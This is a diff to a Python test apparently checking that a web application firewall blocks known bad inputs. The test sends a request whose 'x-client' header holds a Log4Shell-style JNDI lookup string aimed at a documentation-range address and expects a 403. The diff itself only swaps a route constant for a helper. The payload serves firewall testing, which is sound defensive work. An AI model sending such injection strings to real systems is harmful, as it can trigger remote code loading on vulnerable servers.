@@ -14,7 +14,7 @@ from stormproof.stimuli.queries.query_runs import Asked, Caused, ask
 from stormproof.stimuli.shared.entry_points import answered
 from stormproof.stimuli.shared.log_traces import LONGEST_S
 from stormproof.stimuli.shared.propagation import settled
-from stormproof.stimuli.shared.routes import HEALTH
+from stormproof.stimuli.shared.workload import health
 
 LOOKUP = {"x-client": "${jndi:ldap://192.0.2.1/a}"}
 """What AWS's rules against known bad inputs are for; it leads nowhere, and without a key nowhere near a function:
@@ -27,8 +27,9 @@ def be_blocked(bench: Bench) -> Asked:
     if bench.context.policy.firewall_mode is Mode.OBSERVE:
         raise Undecidable("firewall.observes", "the firewall only observes: it blocks nothing that could be found")
     since, mark = bench.clock.now(), uuid.uuid4().hex
+    path = f"{health(bench).path}?mark={mark}"
     with Connection(bench.endpoint()) as connection:
-        seen = answered(bench.send(connection.send, "GET", f"{HEALTH}?mark={mark}", LOOKUP, note="an attack"))
+        seen = answered(bench.send(connection.send, "GET", path, LOOKUP, note="an attack"))
     if seen.status != 403:
         raise CouldNotLook("troubles.not_caused", f"an attack was to be blocked: {seen.status} {seen.body[:200]}")
     return ask(bench, since, (of_block(mark),))
